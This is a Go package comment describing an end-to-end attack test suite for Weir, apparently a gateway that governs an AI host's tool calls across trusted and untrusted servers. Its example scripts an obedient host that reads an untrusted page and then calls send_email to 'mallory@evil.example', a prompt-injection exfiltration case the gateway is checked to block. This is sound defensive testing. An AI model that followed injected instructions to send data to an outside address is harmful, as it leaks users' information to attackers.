// Package attacks holds attacks on Weir: each one drives the built weir program with a scripted host, and checks the
// messages that reached the servers.
//
// A test sets up servers ([setup]), starts `weir run` over them, and plays a host that obeys every instruction:
//
//	h := start(t, setup{servers: []server{
//		{name: "web", trust: "untrusted", script: script{Tools: tools(`{"name":"fetch"}`), Results: results{"fetch": text("page")}}},
//		{name: "mail", trust: "trusted", script: script{Tools: tools(sendEmail)}},
//	}})
//	h.call("fetch", args{"url": "https://example.org/"})
//	h.call("send_email", args{"to": "mallory@evil.example"})
//	h.held("mail", "send_email")
//
// A scripted server records every line that it receives, so a test checks the messages that arrived, and not Weir's
// claims. The host answers every approval request with decline and keeps its text. An attack is through if its call
// reached the server. Where acting matters, real servers act: the filesystem server, servers on both Go SDKs,
// PostgreSQL and SQLite.
//
//	go test ./e2e/attacks -e2e -e2e.postgres /usr/lib/postgresql/15/bin
package attacks
